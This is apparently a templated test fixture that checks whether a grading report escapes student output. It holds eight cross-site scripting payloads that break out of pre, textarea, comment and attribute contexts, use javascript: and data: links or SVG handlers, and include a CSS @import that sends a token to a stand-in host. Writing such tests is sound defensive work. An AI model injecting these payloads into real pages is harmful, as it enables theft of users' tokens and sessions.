"""End the element in which a report quotes the student, and begin another: $EACH.

gains: a page that says what the student wants; a link that acts
canary: page
control: unescaped
each: pre attribute comment textarea link data style svg
"""

SCRIPT = "<script>steal('$TOKEN')</script>"
TEXT = {
    "pre": f"</code></pre>{SCRIPT}",
    "attribute": "\" onmouseover=\"steal('$TOKEN')\" x=\"<b title=\"\" onclick=\"steal('$TOKEN')\">",
    "comment": f"--><!-->{SCRIPT}",
    "textarea": f"</textarea></title></style>{SCRIPT}",
    "link": "<a href=\"java\tscript:steal('$TOKEN')\">marks</a>",
    "data": "<a href=\"data:text/html,<script>steal('$TOKEN')</script>\">marks</a>",
    "style": "<style>@import 'http://x/$TOKEN'</style>",
    "svg": "<svg id='$TOKEN'><set onbegin=\"steal('$TOKEN')\"></svg>",
}["$EACH"]


def double(x):
    print(TEXT)
    raise ValueError(TEXT)
